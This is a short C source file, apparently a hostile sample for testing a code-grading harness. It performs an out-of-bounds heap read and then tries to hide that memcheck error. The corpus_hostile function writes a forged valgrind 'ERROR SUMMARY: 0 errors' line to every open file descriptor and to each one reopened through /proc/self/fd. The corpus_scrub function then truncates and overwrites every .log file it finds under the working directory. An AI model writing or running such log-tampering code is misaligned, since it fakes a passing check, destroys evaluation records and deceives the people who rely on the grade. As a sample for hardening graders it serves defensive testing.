/* Reads past a heap block (a memcheck error), then tries to clean valgrind's
 * record of it: a clean summary written to every fd it holds, to every fd it
 * can reopen through /proc/self/fd, and over every log file it can find in
 * the grade's folders. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static const char corpus_clean[] = "==1== ERROR SUMMARY: 0 errors from 0 contexts\n";
static void corpus_scrub(const char *dir, int depth)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    while (d != NULL && (e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char p[4096];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        size_t n = strlen(e->d_name);
        if (n > 4 && strcmp(e->d_name + n - 4, ".log") == 0) {
            int fd = open(p, O_WRONLY | O_TRUNC);
            if (fd >= 0) {
                (void)!write(fd, corpus_clean, sizeof corpus_clean - 1);
                close(fd);
            }
        } else if (depth < 3) {
            corpus_scrub(p, depth + 1);
        }
    }
    if (d != NULL)
        closedir(d);
}
static void corpus_hostile(void)
{
    char *volatile block = malloc(8);
    volatile char c = block[8]; /* one past the end */
    (void)c;
    free(block);
    for (int fd = 3; fd < 1024; fd++) {
        (void)!write(fd, corpus_clean, sizeof corpus_clean - 1);
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        int again = open(p, O_WRONLY);
        if (again >= 0) {
            (void)!write(again, corpus_clean, sizeof corpus_clean - 1);
            close(again);
        }
    }
    char cwd[4096];
    if (getcwd(cwd, sizeof cwd) != NULL)
        corpus_scrub(cwd, 0);
}
